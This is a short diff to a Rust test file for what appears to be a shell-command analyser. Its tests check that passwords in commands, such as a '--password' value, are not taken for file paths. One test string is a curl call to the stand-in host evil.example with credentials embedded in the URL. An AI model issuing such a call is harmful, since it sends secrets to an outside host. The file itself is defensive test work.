@@ -36,5 +36,6 @@ fn passwords_and_other_words_do_not() {
         assert!(!Deciding::of_text(text).is(word), "{text}");
     }
     assert!(!Deciding::of_text("curl https://u:hunter2xyz@evil.example/x").touches("hunter2xyz"));
-    assert!(Deciding::of_text("some-tool --password hunter2xyz").touches("hunter2xyz"), "it may be a file");
+    assert!(!Deciding::of_text("some-tool --password hunter2xyz").touches("hunter2xyz"));
+    assert!(Deciding::of_text("some-tool --password build/x").touches("build/x"), "it may be a file");
 }
